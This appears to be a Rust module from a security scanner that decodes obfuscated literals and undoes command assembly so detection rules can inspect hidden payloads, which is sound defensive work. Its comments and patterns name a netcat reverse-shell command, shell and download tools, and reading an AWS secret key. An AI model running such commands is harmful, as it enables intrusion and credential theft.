//! Undoing the hiding (SEC-4): encoded literals decoded (base64, hex, `\x`
//! escapes, char codes, reversed strings) and text with its assembly undone
//! (concatenations joined, shell variables and quote tricks resolved,
//! homoglyphs folded, tag characters revealed), so the same rules read what
//! would actually run. Runs only on files where a rule saw decoding or
//! assembly, so clean text pays nothing.

use std::borrow::Cow;
use std::cell::OnceCell;
use std::collections::HashMap;
use std::sync::LazyLock;

use base64::Engine;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use regex::{Captures, Regex};

use crate::encoded;
use crate::lines::Lines;

fn regex(pattern: &str) -> Regex {
    Regex::new(pattern).expect("reveal regexes compile")
}

static ESCAPES: LazyLock<Regex> =
    LazyLock::new(|| regex(r"(?:\\x[0-9a-fA-F]{2}|\\u00[0-9a-fA-F]{2}|\\[0-7]{3}){4,}"));
static CHAR_CODES: LazyLock<Regex> = LazyLock::new(|| {
    regex(r"(?i)(?:fromCharCode\(|chr\(|\[char\]\s*|\[|,)\s*\d{2,3}\s*(?:\)|,|\]|\+)")
});
static NUMBER: LazyLock<Regex> = LazyLock::new(|| regex(r"\d{2,3}"));
/// A decoder that moves every code by a constant before it becomes a
/// character (`xs.map(x => x - 7)`, `chr(ord(c) - 3)`, `(c + 5).chr`,
/// `byte(c ^ 42)`): the codes are a Caesar shift or a one-byte XOR of the
/// text, and read as they are they decode to noise.
/// Batch 67: the constant may be a name the text gives a small number
/// (`const SEED = 13;` … `fromCharCode(n - SEED)`), read by
/// [`NUMBER_CONSTANT`].
static SHIFT: LazyLock<Regex> = LazyLock::new(|| {
    // ASCII classes and boundaries only: a Unicode `\b` or `\w` hands any
    // non-ASCII text to the regex crate's PikeVM.
    regex(
        r"(?:=>\s*\(?|(?:(?-u:\b)(?:fromCharCode|chr|byte|bytes|rune)|\[[cC]har\])\s*\(\s*(?:ord\(\s*)?)[a-zA-Z_$][a-zA-Z0-9_$]*\s*\)?\s*([-+^])\s*([0-9]{1,3}|[a-zA-Z_][a-zA-Z0-9_]*)(?-u:\b)|\(\s*[a-zA-Z_][a-zA-Z0-9_]*\s*([-+^])\s*([0-9]{1,3})\s*\)\.chr(?-u:\b)",
    )
});
/// A name given a small number on its own (`const SEED = 13;`, `$k = 7`,
/// `KEY := 42`): the constant a decoder's move may name.
static NUMBER_CONSTANT: LazyLock<Regex> = LazyLock::new(|| {
    regex(r"(?m)(?:^|[\s;,(])\$?([a-zA-Z_][a-zA-Z0-9_]*)\s*:?=\s*([0-9]{1,3})\s*(?:;|,|\)|$)")
});
const REVERSED_PATTERN: &str = r#"(['"])([^'"\n]{8,})['"]\s*(?:\[::-1\]|\.split\(\s*['"]{2}\s*\)\.reverse\(\)\.join\(\s*['"]{2}\s*\)|\|\s*rev\b)"#;
static REVERSED: LazyLock<Regex> = LazyLock::new(|| regex(REVERSED_PATTERN));
/// Whether a text may hold a reversed literal: `REVERSED` with ASCII
/// boundaries, which matches wherever it does (a byte that ends a Unicode
/// word ends an ASCII one). Its Unicode `\b` took the lazy DFA off any
/// text with a non-ASCII byte, and the whole-text search to the PikeVM
/// (2.2 M instructions of two corpus passes' 122.6 M, for three texts).
static MAY_REVERSE: LazyLock<Regex> =
    LazyLock::new(|| regex(&REVERSED_PATTERN.replace(r"\b", r"(?-u:\b)")));

/// hide84: a run of URL-encoded bytes (`unquote('%62%61…')`).
static PERCENT: LazyLock<Regex> = LazyLock::new(|| regex(r"(?:%[0-9A-Fa-f]{2}){6,}"));
/// hide84: bash's ANSI-C quoting of escapes (`$'\x63\x75'`), which reads
/// as the bare word it spells.
static ANSI_C: LazyLock<Regex> =
    LazyLock::new(|| regex(r"\$'((?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})+)'"));
/// hide84: a rot13 decoder's spelling (`tr 'A-Za-z' 'N-ZA-Mn-za-m'`,
/// `codecs.decode(s, 'rot13')`, `str_rot13(…)`).
static ROT13: LazyLock<Regex> = LazyLock::new(|| regex(r"(?i)rot_?13|N-ZA-Mn-z"));
/// hide84: a helper that returns its one argument reversed (`function
/// r(e){return e.split('').reverse().join('')}`, `def r(s): return
/// s[::-1]`, `const r = s => s.split('').reverse().join('')`): the
/// helper's name, its parameter and the name it reverses, per spelling.
static REVERSER: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(?:function\s+([A-Za-z_$][\w$]*)\s*\(\s*([A-Za-z_$][\w$]*)\s*\)\s*\{\s*return\s+([A-Za-z_$][\w$]*)|def\s+([A-Za-z_]\w*)\s*\(\s*([A-Za-z_]\w*)\s*\)\s*:\s*return\s+([A-Za-z_]\w*)|(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*\(?\s*([A-Za-z_$][\w$]*)\s*\)?\s*=>\s*([A-Za-z_$][\w$]*))\s*(?:\.split\(\s*(?:''|"")\s*\)\.reverse\(\)\.join\(\s*(?:''|"")\s*\)|\[::-1\])"#,
    )
});
/// The most literals a text's reversing helpers are read on.
const MOST_REVERSED: usize = 64;

const STANDARD: GeneralPurpose = GeneralPurpose::new(
    &base64::alphabet::STANDARD,
    GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
);
const URL_SAFE: GeneralPurpose = GeneralPurpose::new(
    &base64::alphabet::URL_SAFE,
    GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
);

/// Readable text, or nothing: decoded bytes count only when they are
/// mostly printable. UTF-16LE (what PowerShell's `-EncodedCommand` takes)
/// is read as such, so an encoded command is judged by what it says.
fn readable(bytes: Vec<u8>) -> Option<String> {
    let wide = bytes.len() >= 16
        && bytes.len().is_multiple_of(2)
        && bytes.iter().skip(1).step_by(2).all(|&b| b == 0);
    let text = if wide {
        // Every high byte is zero: each unit is one Latin-1 character.
        bytes.iter().step_by(2).map(|&b| char::from(b)).collect()
    } else {
        String::from_utf8(bytes).ok()?
    };
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || c.is_whitespace())
        .count();
    (text.len() >= 8 && printable * 10 >= text.chars().count() * 9).then_some(text)
}

/// Every encoded literal of `text` that decodes to readable text:
/// (0-based line, decoded text), by line, in the order the kinds are
/// listed. The literals that cannot cross a line are searched in the
/// whole text (a regex call per line cost more than the search); the
/// per-line kinds only in texts that hold one somewhere.
pub fn decoded_literals(text: &str) -> Vec<(usize, String)> {
    let lines = Lines::new(text);
    let mut out = Vec::new();
    let (base64, hex) = encoded::literals(text);
    for found in base64 {
        let token = text[found.clone()].trim_end_matches('=');
        if token.bytes().all(|b| b.is_ascii_hexdigit()) {
            continue;
        }
        let decoded = STANDARD
            .decode(token)
            .or_else(|_| URL_SAFE.decode(token))
            .ok()
            .and_then(readable);
        out.extend(decoded.map(|d| (lines.of(found.start), d)));
    }
    for found in hex {
        let bytes = hex_bytes(&text[found.clone()]);
        out.extend(readable(bytes).map(|d| (lines.of(found.start), d)));
    }
    out.extend(escape_runs(text, &lines));
    out.extend(percent_runs(text, &lines));
    out.extend(rot13_literals(text));
    let reverses = reverse_spelled(text);
    if reverses.helper {
        out.extend(reversed_by_helper(text));
    }
    // Each kind's lines found first, each by what its regex needs: a
    // regex over every line, or over the whole text for a list of codes,
    // cost more than the rest of the decoding (cost85).
    let coded = code_lines(text, &lines);
    let reversed = reversed_lines(text, &lines, &reverses);
    // Read only once a line holds a list of codes: most texts with a
    // code somewhere have none.
    let moves = OnceCell::new();
    let keys = OnceCell::new();
    let mut wanted = coded.iter().chain(&reversed).copied().collect::<Vec<_>>();
    wanted.sort_unstable();
    wanted.dedup();
    for number in wanted {
        // As `str::lines` reads it: a CR before the newline is not the
        // line's.
        let line = lines.get(number);
        let line = match number + 1 < lines.count() {
            true => line.strip_suffix('\r').unwrap_or(line),
            false => line,
        };
        if coded.binary_search(&number).is_ok() && CHAR_CODES.find_iter(line).count() >= 4 {
            let codes: Vec<u32> = NUMBER
                .find_iter(line)
                .filter_map(|n| n.as_str().parse::<u32>().ok())
                .collect();
            let plain = |c: u32| Some(c);
            let moves = std::iter::once(&plain as &dyn Fn(u32) -> Option<u32>).chain(
                moves
                    .get_or_init(|| shifts(text))
                    .iter()
                    .map(|s| s as &dyn Fn(u32) -> Option<u32>),
            );
            for shift in moves {
                let text: String = codes
                    .iter()
                    .filter_map(|&c| shift(c))
                    .filter_map(|c| u8::try_from(c).ok())
                    .filter(|n| (9..127).contains(n))
                    .map(char::from)
                    .collect();
                out.extend(readable(text.into_bytes()).map(|d| (number, d)));
            }
            for key in keys.get_or_init(|| repeating_keys(text)) {
                out.extend(readable(keyed(line, key)).map(|d| (number, d)));
            }
        }
        if reversed.binary_search(&number).is_ok() {
            for found in REVERSED.captures_iter(line) {
                out.push((number, found[2].chars().rev().collect()));
            }
        }
    }
    // Stable: a line's literals stay in the order of their kinds.
    out.sort_by_key(|&(line, _)| line);
    out
}

/// The lines where a list of char codes ([`CHAR_CODES`]) may stand: a
/// `,`, `[` or `]`, or a call's `(` after `r` or `e` (`chr(`,
/// `fromCharCode(`), then whitespace, two numerals or more, numerals or
/// whitespace, and a `)`, `,`, `]` or `+` (every `\d` is a numeral, and
/// `\s` is whitespace). Every line the regex matches is among them, and
/// a text without one is not searched by it.
fn code_lines(text: &str, lines: &Lines) -> Vec<usize> {
    let bytes = text.as_bytes();
    let calls = memchr::memchr_iter(b'(', bytes)
        .filter(|&at| at > 0 && matches!(bytes[at - 1] | 0x20, b'r' | b'e'));
    let mut found: Vec<usize> = memchr::memchr3_iter(b',', b'[', b']', bytes)
        .chain(calls)
        .filter(|&at| codes_follow(&text[at + 1..]))
        .map(|at| lines.of(at))
        .collect();
    found.sort_unstable();
    found.dedup();
    found
}

/// Whether `rest` opens as a code of [`code_lines`] does after its mark.
/// Most marks are a comma before a word: its first byte past the ASCII
/// whitespace (`\s`'s, the vertical tab among them) says so.
fn codes_follow(rest: &str) -> bool {
    let past = rest
        .bytes()
        .find(|b| !matches!(b, b' ' | b'\t' | b'\n' | b'\x0B' | b'\x0C' | b'\r'));
    if past.is_none_or(|b| b.is_ascii() && !b.is_ascii_digit()) {
        return false;
    }
    let mut chars = rest.chars().skip_while(|c| c.is_whitespace()).peekable();
    let mut numerals = 0;
    while chars.next_if(|c| c.is_numeric()).is_some() {
        numerals += 1;
    }
    numerals >= 2
        && chars
            .find(|c| !c.is_whitespace() && !c.is_numeric())
            .is_some_and(|c| matches!(c, ')' | ',' | ']' | '+'))
}

/// The spellings a reversed literal needs, each found by `memmem`.
struct Reverses {
    /// `[::-1]` or `.reverse().join(`: a helper's body or a reversed
    /// literal's suffix.
    helper: bool,
    /// `| rev`, a pipe to `rev` (whitespace between).
    piped: bool,
}

fn reverse_spelled(text: &str) -> Reverses {
    let bytes = text.as_bytes();
    let has = |word: &[u8]| memchr::memmem::find(bytes, word).is_some();
    Reverses {
        helper: has(b"[::-1]") || has(b".reverse().join("),
        piped: memchr::memmem::find_iter(bytes, b"rev")
            .any(|at| text[..at].trim_end().ends_with('|')),
    }
}

/// The lines where [`REVERSED`] may match: those that a match of
/// [`MAY_REVERSE`] over the whole text touches (a match of a line is one
/// of the text, or starts inside one found before it).
fn reversed_lines(text: &str, lines: &Lines, reverses: &Reverses) -> Vec<usize> {
    if !reverses.helper && !reverses.piped {
        return Vec::new();
    }
    MAY_REVERSE
        .find_iter(text)
        .flat_map(|found| lines.of(found.start())..=lines.of(found.end() - 1))
        .collect()
}

/// Each run of escapes decoded; a line with more than one run (`$'\x63…'
/// -fsSL $'\x68…'`) is read again with each run decoded in its place.
fn escape_runs(text: &str, lines: &Lines) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    let mut escaped = Vec::new();
    for found in ESCAPES.find_iter(text) {
        let bytes = escape_bytes(found.as_str());
        let line = lines.of(found.start());
        out.extend(readable(bytes).map(|d| (line, d)));
        escaped.push(line);
    }
    let mut repeated: Vec<usize> = escaped
        .windows(2)
        .filter(|p| p[0] == p[1])
        .map(|p| p[0])
        .collect();
    repeated.dedup();
    for line in repeated {
        out.push((line, escapes_in_place(lines.get(line))));
    }
    out
}

/// Each run of URL-encoded bytes ([`PERCENT`]) decoded, when it reads as
/// text.
fn percent_runs(text: &str, lines: &Lines) -> Vec<(usize, String)> {
    if !text.contains('%') {
        return Vec::new();
    }
    PERCENT
        .find_iter(text)
        .filter_map(|found| {
            let bytes = hex_bytes(&found.as_str().replace('%', ""));
            readable(bytes).map(|d| (lines.of(found.start()), d))
        })
        .collect()
}

/// hide84: a byte XOR-ed with a key repeated over the data (`b ^
/// K[i % len(K)]`, `c ^ key.charCodeAt(i % key.length)`): the key's name.
static REPEATING_KEY: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"\^\s*([A-Za-z_]\w*)\s*\[\s*\w+\s*%\s*(?:len\(\s*\w+\s*\)|\w+\.length)\s*\]|\^\s*([A-Za-z_]\w*)\.charCodeAt\(\s*\w+\s*%\s*\w+\.length\s*\)",
    )
});
/// A key of at most 64 characters given a name as a literal (`K =
/// b'migplan'`, `const key = "s3cr3t"`).
static KEY_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(?:^|[\s;(])(?:const\s+|let\s+|var\s+|my\s+)?\$?([A-Za-z_]\w*)\s*=\s*b?(?:'([^'\n]{1,64})'|"([^"\n]{1,64})")"#,
    )
});
static BYTE: LazyLock<Regex> = LazyLock::new(|| regex(r"\b\d{1,3}\b"));

/// The keys a text's repeating-key XOR names ([`REPEATING_KEY`]), as the
/// bytes of their literals; at most two.
fn repeating_keys(text: &str) -> Vec<Vec<u8>> {
    let names: Vec<&str> = REPEATING_KEY
        .captures_iter(text)
        .filter_map(|c| c.get(1).or(c.get(2)).map(|m| m.as_str()))
        .collect();
    if names.is_empty() {
        return Vec::new();
    }
    let mut keys: Vec<Vec<u8>> = KEY_LITERAL
        .captures_iter(text)
        .filter(|c| names.contains(&&c[1]))
        .filter_map(|c| {
            c.get(2)
                .or(c.get(3))
                .map(|m| m.as_str().as_bytes().to_vec())
        })
        .collect();
    keys.dedup();
    keys.truncate(2);
    keys
}

/// The bytes of `line`'s list of numbers (between its first `[` and the
/// next `]`, or the whole line) XOR-ed with `key` repeated.
fn keyed(line: &str, key: &[u8]) -> Vec<u8> {
    let list = line
        .split_once('[')
        .and_then(|(_, rest)| rest.split_once(']'))
        .map_or(line, |(list, _)| list);
    BYTE.find_iter(list)
        .filter_map(|n| n.as_str().parse::<u8>().ok())
        .zip(key.iter().cycle())
        .map(|(byte, k)| byte ^ k)
        .collect()
}

/// `line` with every run of escapes decoded where it stands, an ANSI-C
/// quoted one as the bare word it spells.
fn escapes_in_place(line: &str) -> String {
    let decoded = |escapes: &str| String::from_utf8_lossy(&escape_bytes(escapes)).into_owned();
    let bare = ANSI_C.replace_all(line, |c: &Captures| decoded(&c[1]));
    ESCAPES
        .replace_all(&bare, |c: &Captures| decoded(&c[0]))
        .into_owned()
}

/// The literals of the lines that name a rot13 decoder, rot13 undone.
fn rot13_literals(text: &str) -> Vec<(usize, String)> {
    if !ROT13.is_match(text) {
        return Vec::new();
    }
    let mut out = Vec::new();
    for (number, line) in text.lines().enumerate().filter(|(_, l)| ROT13.is_match(l)) {
        for literal in LITERAL.captures_iter(line) {
            let literal = literal.get(1).or(literal.get(2)).map_or("", |m| m.as_str());
            if literal.len() >= 8 {
                out.push((number, crate::respell::rot13(literal)));
            }
        }
    }
    out
}

/// The literals handed to a helper of the text that returns its argument
/// reversed ([`REVERSER`]), reversed; at most [`MOST_REVERSED`].
fn reversed_by_helper(text: &str) -> Vec<(usize, String)> {
    let helpers: Vec<String> = REVERSER
        .captures_iter(text)
        .filter_map(|c| {
            let group = |i: usize| c.get(i).map_or("", |m| m.as_str());
            let first = [1, 4, 7].into_iter().find(|&i| c.get(i).is_some())?;
            (group(first + 1) == group(first + 2)).then(|| group(first).to_owned())
        })
        .collect();
    let mut out = Vec::new();
    if helpers.is_empty() {
        return out;
    }
    for (number, line) in text.lines().enumerate() {
        for helper in &helpers {
            for (at, _) in line.match_indices(&format!("{helper}(")) {
                let before = line[..at].chars().next_back();
                if before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$' || c == '.') {
                    continue;
                }
                let call = &line[at + helper.len() + 1..];
                if let Some(literal) = LITERAL
                    .captures(call)
                    .filter(|c| c.get(0).is_some_and(|m| m.start() == 0))
                {
                    let literal = literal.get(1).or(literal.get(2)).map_or("", |m| m.as_str());
                    out.push((number, literal.chars().rev().collect()));
                }
            }
        }
        if out.len() >= MOST_REVERSED {
            break;
        }
    }
    out.truncate(MOST_REVERSED);
    out
}

/// hide84: the bits a text keeps in its lines' trailing whitespace, a tab
/// a one and a space a zero, eight to a byte, read as text when they are
/// (at most 4 KB of bits): whitespace steganography's payload.
pub fn trailing_bits(text: &str) -> Option<String> {
    let bits: Vec<bool> = text
        .lines()
        .flat_map(|line| {
            let kept = line.trim_end_matches([' ', '\t']).len();
            let trailing = if kept == 0 { "" } else { &line[kept..] };
            trailing.bytes().map(|b| b == b'\t')
        })
        .take(4096 * 8)
        .collect();
    let bytes = bits
        .chunks_exact(8)
        .map(|byte| {
            byte.iter()
                .fold(0u8, |acc, &bit| (acc << 1) | u8::from(bit))
        })
        .collect();
    readable(bytes)
}

/// One token of prose decoded from base64 or hex, when it reads as text
/// (`respell::told`: a skill that tells the agent to decode it).
pub fn decoded_token(token: &str) -> Option<String> {
    let token = token.trim_end_matches('=');
    if token.len().is_multiple_of(2) && token.bytes().all(|b| b.is_ascii_hexdigit()) {
        return readable(hex_bytes(token));
    }
    STANDARD
        .decode(token)
        .or_else(|_| URL_SAFE.decode(token))
        .ok()
        .and_then(readable)
}

const MOST_SHIFTS: usize = 4;

/// The constant moves the text's decoders apply to a code, each as the
/// function from a written code to the character's code (`x - 7` takes
/// 106 to 99). A move that leaves a code below zero drops that code.
fn shifts(text: &str) -> Vec<impl Fn(u32) -> Option<u32>> {
    let mut found: Vec<(char, u32)> = SHIFT
        .captures_iter(text)
        .filter_map(|c| {
            let (op, by) = (c.get(1).or(c.get(3))?, c.get(2).or(c.get(4))?);
            let by = by.as_str();
            let by = by.parse().ok().or_else(|| constant(text, by))?;
            Some((op.as_str().chars().next()?, by))
        })
        .filter(|&(_, by)| by > 0)
        .collect();
    found.sort_unstable();
    found.dedup();
    // A text's ordinary arithmetic (`i => i + 1`) is read too; a few
    // moves bound what a long script costs.
    found
        .into_iter()
        .take(MOST_SHIFTS)
        .map(|(op, by)| {
            move |code: u32| match op {
                '-' => code.checked_sub(by),
                '+' => code.checked_add(by),
                _ => Some(code ^ by),
            }
        })
        .collect()
}

/// The small number `text` gives `name` ([`NUMBER_CONSTANT`]), if any.
fn constant(text: &str, name: &str) -> Option<u32> {
    NUMBER_CONSTANT
        .captures_iter(text)
        .find(|c| &c[1] == name)
        .and_then(|c| c[2].parse().ok())
}

fn hex_bytes(hex: &str) -> Vec<u8> {
    hex.as_bytes()
        .chunks(2)
        .filter_map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok())
        .collect()
}

fn escape_bytes(escapes: &str) -> Vec<u8> {
    escapes
        .split('\\')
        .filter(|part| !part.is_empty())
        .filter_map(|part| match part.as_bytes()[0] {
            b'x' => u8::from_str_radix(part.get(1..3)?, 16).ok(),
            b'u' => u8::from_str_radix(part.get(3..5)?, 16).ok(),
            _ => u8::from_str_radix(part.get(..3)?, 8).ok(),
        })
        .collect()
}

static CONCAT: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(?:(?:'[^'\n]*'|"[^"\n]*"|\$?\b[A-Za-z_]\w*\b)(?:\s*\+\s*|\s+\.\s+|\s*&\s*|\s*\|\|\s*))+(?:'[^'\n]*'|"[^"\n]*"|\$?\b[A-Za-z_]\w*\b)"#,
    )
});
/// PHP's and Perl's `.` with no space around it, between literals and
/// `$` variables (`'cu'.'rl'`, `$a.'rl'`): spaced out so [`CONCAT`] reads
/// it. No other language joins a literal with `.`. The literals are read
/// from the left, so a `"."` is never taken for a join of its quotes.
static DOT_OPERAND: LazyLock<Regex> =
    LazyLock::new(|| regex(r#"'[^'\n]*'|"[^"\n]*"|\$[A-Za-z_]\w*"#));
static TOKEN: LazyLock<Regex> =
    LazyLock::new(|| regex(r#"'([^'\n]*)'|"([^"\n]*)"|\$?\b([A-Za-z_]\w*)\b"#));
static ASSIGNMENT: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(?m)(?:^|;)\s*(?:(?:let|const|var|set|local|export)\s+)?"?\$?([A-Za-z_]\w*)\s*=\s*(?:'([^'\n]{1,60})'|"([^"\n]{1,60})"|([^\s'";]{1,60}))"#,
    )
});
/// One more quoted piece joined by `+` (or a spaced `.`) at the start of
/// the rest of an assignment's line.
static JOINED_PIECE: LazyLock<Regex> =
    LazyLock::new(|| regex(r#"^[ \t]*(?:\+|[ \t]\.)[ \t]*(?:'([^'\n]*)'|"([^"\n]*)")"#));
/// The further assignments of a shell declaration (`local a=cu b=rl`).
static DECLARATION: LazyLock<Regex> =
    LazyLock::new(|| regex(r"(?m)^\s*(?:local|declare(?:\s+-\w+)*|export|readonly)\s+([^\n]+)"));
static WORD_ASSIGNMENT: LazyLock<Regex> = LazyLock::new(|| {
    regex(r#"([A-Za-z_]\w*)=(?:'([^'\n]{1,60})'|"([^"\n]{1,60})"|([^\s'";]{1,60}))"#)
});
/// A variable set to escapes a command prints (`c=$(printf %b '\x63…')`),
/// or to escapes alone (`t='\143\165…'`), which `printf %b "$t"` or
/// `echo -e "$t"` prints where it is used.
static PRINTED: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"([A-Za-z_]\w*)=(?:\$\(\s*(?:printf(?:\s+%b)?|echo\s+-e)\s+)?['"]((?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})+)['"]"#,
    )
});
/// A shell variable grown by `name+=value`, after its first assignment.
pub static APPEND: LazyLock<Regex> = LazyLock::new(|| {
    regex(r#"(?m)^\s*([A-Za-z_]\w*)\+=(?:'([^'\n]{1,60})'|"([^"\n]{1,60})"|([^\s'";]{1,60}))"#)
});
/// `${!name}`: the variable whose name `name` holds. A variable quoted on
/// its own (`"$s"`, `"${!r}"`) is one word: it reads as its value bare.
static INDIRECT: LazyLock<Regex> =
    LazyLock::new(|| regex(r#""\$\{!([A-Za-z_]\w*)\}"|\$\{!([A-Za-z_]\w*)\}"#));
/// A batch file's `%name%`, expanded where it stands (`%p1%%p2%` is one
/// word).
static BATCH_VAR: LazyLock<Regex> = LazyLock::new(|| regex(r"%([A-Za-z_]\w*)%"));
/// A method named by a string (PowerShell's `$w.('DownloadString')(u)`,
/// `$w."Get"(u)`): it reads as the method.
static NAMED_MEMBER: LazyLock<Regex> =
    LazyLock::new(|| regex(r#"\.\(?\s*['"]([A-Za-z_]\w*)['"]\s*\)?\s*\("#));
static SHELL_VAR: LazyLock<Regex> = LazyLock::new(|| {
    regex(r#""\$\{([A-Za-z_]\w*)\}"|"\$([A-Za-z_]\w*)"|\$\{([A-Za-z_]\w*)\}|\$([A-Za-z_]\w*)"#)
});

/// The name a [`SHELL_VAR`] match uses, whichever spelling it has.
fn shell_var_name<'t>(c: &Captures<'t>) -> &'t str {
    (1..5).find_map(|i| c.get(i)).map_or("", |m| m.as_str())
}
/// A list joined into one string: Python's `sep.join([…])`, JavaScript's
/// `[…].join(sep)`.
/// Batch 67: the list may be sliced whole on the way (`[…][::1]`, `[…][:]`)
/// or reversed (`[…][::-1]`, group 4).
static JOIN_PY: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(['"])([^'"\n]*)['"]\.join\(\s*\[([^\]\n]*)\]\s*(?:\[\s*:\s*(?::\s*(-?1)\s*)?\])?\s*\)"#,
    )
});
/// PowerShell's format operator with literal arguments (`'{0}-{1}' -f
/// 'Invoke','RestMethod'`), a command name assembled where it is used.
static PS_FORMAT: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"['"]((?:[^'"{}\n]|\{\d\})*)['"]\s*-[fF]\s+((?:'[^'\n]*'|"[^"\n]*")(?:\s*,\s*(?:'[^'\n]*'|"[^"\n]*"))*)"#,
    )
});
static JOIN_JS: LazyLock<Regex> =
    LazyLock::new(|| regex(r#"\[([^\]\n]*)\]\.join\(\s*(?:['"]([^'"\n]*)['"])?\s*\)"#));
/// Rust's `[…].concat()` and Go's `strings.Join([]string{…}, sep)`.
static CONCAT_RS: LazyLock<Regex> = LazyLock::new(|| regex(r#"\[([^\]\n]*)\]\.concat\(\s*\)"#));
static JOIN_GO: LazyLock<Regex> =
    LazyLock::new(|| regex(r#"strings\.Join\(\s*\[\]string\{([^}\n]*)\}\s*,\s*"([^"\n]*)"\s*\)"#));
/// A join written as a call: SQL's `concat_ws(sep, …)` and `concat(…)` (in
/// any case), R's `paste0(…)`, `paste(…, sep = s)` and `paste(c(…),
/// collapse = s)`, and a `sprintf`/`format` whose format takes
/// `%s`/`%L`/`%I` in order. A method (`"{}".format(x)`, `pd.concat(…)`) is
/// none: the character before the name is kept (group 1). Only calls with
/// no call inside are matched, so a pass rebuilds the innermost ones.
static CALL_JOIN: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(^|[^.\w$])((?i:concat_ws|concat)|paste0|paste|sprintf|format)\(\s*((?:c\(([^()\n]*)\)\s*,\s*collapse\s*=\s*(?:'([^'\n]*)'|"([^"\n]*)"))|[^()\n]*)\)"#,
    )
});
/// The `sep = "…"` argument of R's `paste`.
static SEP: LazyLock<Regex> =
    LazyLock::new(|| regex(r#",\s*sep\s*=\s*(?:'([^'\n]*)'|"([^"\n]*)")\s*$"#));
/// An assignment whose value is an expression, read with its joins undone:
/// R's `x <- …` and PL/pgSQL's `x type := …;`.
static EXPRESSION: LazyLock<Regex> = LazyLock::new(|| {
    regex(r"^\s*([A-Za-z_]\w*)\s*(?:<-|\s[A-Za-z_]\w*(?:\(\d+\))?\s*:=)\s*([^;\n]+)")
});
/// hide84: a list given a name on its own line (`const parts = ['cu',
/// 'rl'];`, `parts = [...]`): its items.
static LIST: LazyLock<Regex> = LazyLock::new(|| {
    regex(r"(?m)^\s*(?:(?:const|let|var|my)\s+)?([A-Za-z_]\w*)\s*=\s*\[([^\]\n]*)\]\s*;?\s*$")
});
/// hide84: a named list joined: JavaScript's `name.join(sep)` (groups 1-3),
/// Python's `sep.join(name)` (groups 4-6).
static NAMED_JOIN: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"\b([A-Za-z_]\w*)\.join\(\s*(?:'([^'\n]*)'|"([^"\n]*)")?\s*\)|(?:'([^'\n]*)'|"([^"\n]*)")\.join\(\s*([A-Za-z_]\w*)\s*\)"#,
    )
});
/// hide84: bash's brace expansion spelling a command (`{nc,-e,/bin/sh,h,4444}`
/// runs `nc -e /bin/sh h 4444`), the command's word first.
static BRACE_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"(^|[\s;&|(`])\{((?:nc|ncat|netcat|curl|wget|bash|sh|python3?|perl|php|rm|cat|chmod),[^{}\s]*)\}",
    )
});
static LITERAL: LazyLock<Regex> = LazyLock::new(|| regex(r#"'([^'\n]*)'|"([^"\n]*)""#));
static QUOTE_SPLIT: LazyLock<Regex> = LazyLock::new(|| regex(r#"(\w)(?:''|""|\$@|\\)([a-z])"#));
static QUOTED_LETTERS: LazyLock<Regex> = LazyLock::new(|| regex(r"(\w)'(\w{1,3})'(\w)"));

/// `text` with its assembly undone, line for line.
#[cfg(test)]
pub fn normalize(text: &str) -> String {
    normalize_with(text, text)
}

/// `text` with its assembly undone, line for line, taking variable values
/// from the assignments in `whole` (the file `text` comes from).
pub fn normalize_with(text: &str, whole: &str) -> String {
    let shown = folded(text);
    // The whole file's assignments are read only when a variable is used:
    // folding and matching a whole file costs more than the rest.
    let values: OnceCell<HashMap<String, String>> = OnceCell::new();
    // Expressions are evaluated only for text that joins with a call; the
    // call names' literals gate the regex.
    let calls = call_named(&shown) && CALL_JOIN.is_match(&shown);
    let values = || values.get_or_init(|| assignments(&folded(whole), calls));
    let shown = INDIRECT.replace_all(&shown, |c: &Captures| {
        let name = c.get(1).or(c.get(2)).map_or("", |m| m.as_str());
        // A name that holds a variable's name with no value in the file
        // reads as that variable (`${!k}` with `k=AWS_SECRET_ACCESS_KEY`).
        let target = values().get(name).map(|target| {
            values()
                .get(target)
                .cloned()
                .unwrap_or(format!("${target}"))
        });
        target.unwrap_or_else(|| c[0].to_owned())
    });
    let shown = JOIN_PY.replace_all(&shown, |c: &Captures| {
        let items = match c.get(4).map(|m| m.as_str()) {
            Some("-1") => reversed_items(&c[3]),
            _ => c[3].to_owned(),
        };
        joined_list(&items, &c[2], values())
    });
    // Only a text with the operator's spelling is searched.
    let shown = if shown.contains("-f") || shown.contains("-F") {
        Cow::Owned(
            PS_FORMAT
                .replace_all(&shown, |c: &Captures| filled_format(&c[1], &c[2]))
                .into_owned(),
        )
    } else {
        shown
    };
    let shown = JOIN_JS.replace_all(&shown, |c: &Captures| {
        joined_list(&c[1], c.get(2).map_or(",", |m| m.as_str()), values())
    });
    let shown = if shown.contains(".join(") {
        Cow::Owned(named_joins(&shown, whole, values()))
    } else {
        shown
    };
    let shown = if shown.contains('{') {
        BRACE_COMMAND.replace_all(&shown, |c: &Captures| {
            format!("{}{}", &c[1], c[2].replace(',', " "))
        })
    } else {
        shown
    };
    let shown = CONCAT_RS.replace_all(&shown, |c: &Captures| joined_list(&c[1], "", values()));
    let shown = JOIN_GO.replace_all(&shown, |c: &Captures| joined_list(&c[1], &c[2], values()));
    let substituted = SHELL_VAR.replace_all(&shown, |c: &Captures| match shell_var_name(c) {
        "IFS" => " ".to_owned(),
        name => values()
            .get(name)
            .cloned()
            .unwrap_or_else(|| c[0].to_owned()),
    });
